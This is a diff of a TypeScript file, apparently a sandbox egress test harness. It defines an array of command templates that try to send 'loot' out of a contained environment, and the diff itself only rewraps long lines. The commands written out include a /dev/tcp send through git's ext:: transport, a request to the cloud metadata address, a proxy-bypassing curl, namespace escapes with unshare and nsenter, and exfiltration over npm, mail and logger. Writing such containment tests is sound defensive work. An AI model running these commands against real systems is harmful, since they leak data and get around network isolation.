@@ -32,7 +32,8 @@ const SENDERS: readonly ((loot: string, mark: string) => string)[] = [
     `python3 -c 'import socket; socket.socket(socket.AF_PACKET,socket.SOCK_RAW); socket.socket(socket.AF_NETLINK,socket.SOCK_RAW,0)' ; : ${mark}`,
   (loot, mark) =>
     `node -e 'require("http").get("http://127.0.0.1:\${tcp}/${mark}?"+encodeURIComponent(process.argv[1])).on("error",console.log)' "${loot}"`,
-  (loot, mark) => `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:\${tcp}")->send("${mark} $ARGV[0]")' "${loot}"`,
+  (loot, mark) =>
+    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:\${tcp}")->send("${mark} $ARGV[0]")' "${loot}"`,
   (loot, mark) => `git ls-remote "http://127.0.0.1:\${tcp}/${mark}/${loot}"`,
   (loot, mark) => `git -c http.proxy=http://127.0.0.1:\${tcp} clone -q https://example.com/${mark} "${loot}"`,
   (loot, mark) => `git fetch "ext::sh -c 'echo ${mark} > /dev/tcp/127.0.0.1/\${tcp}'" ; : "${loot}"`,
@@ -42,11 +43,14 @@ const SENDERS: readonly ((loot: string, mark: string) => string)[] = [
   (loot, mark) => `curl -s -m1 "http://169.254.169.254/latest/meta-data/${mark}?${loot}"`,
   (loot, mark) => `curl -s -m1 -x http://127.0.0.1:\${tcp} "http://example.com/${mark}?${loot}"`,
   (loot, mark) => `env -u HTTP_PROXY -u http_proxy curl -s -m1 -d "${loot}" http://127.0.0.1:\${tcp}/${mark}`,
-  (loot, mark) => `ip link set lo up; ip route add default dev lo; curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
+  (loot, mark) =>
+    `ip link set lo up; ip route add default dev lo; curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
   (loot, mark) => `unshare -Urn curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
   (loot, mark) => `nsenter -t 1 -n curl -s -m1 http://127.0.0.1:\${tcp}/${mark}/${loot}`,
-  (loot, mark) => `npm --fetch-retries=0 --fetch-timeout=900 view --registry http://127.0.0.1:\${tcp}/${mark} "${loot}"`,
-  (loot, mark) => `mail -s ${mark} root@localhost <<< "${loot}"; logger -n 127.0.0.1 -P \${dns} "${mark} ${loot}"; wall "${loot}"`,
+  (loot, mark) =>
+    `npm --fetch-retries=0 --fetch-timeout=900 view --registry http://127.0.0.1:\${tcp}/${mark} "${loot}"`,
+  (loot, mark) =>
+    `mail -s ${mark} root@localhost <<< "${loot}"; logger -n 127.0.0.1 -P \${dns} "${mark} ${loot}"; wall "${loot}"`,
 ];
 
 /** Sends something away. What it carries is read first; that it arrives at all is a finding. */
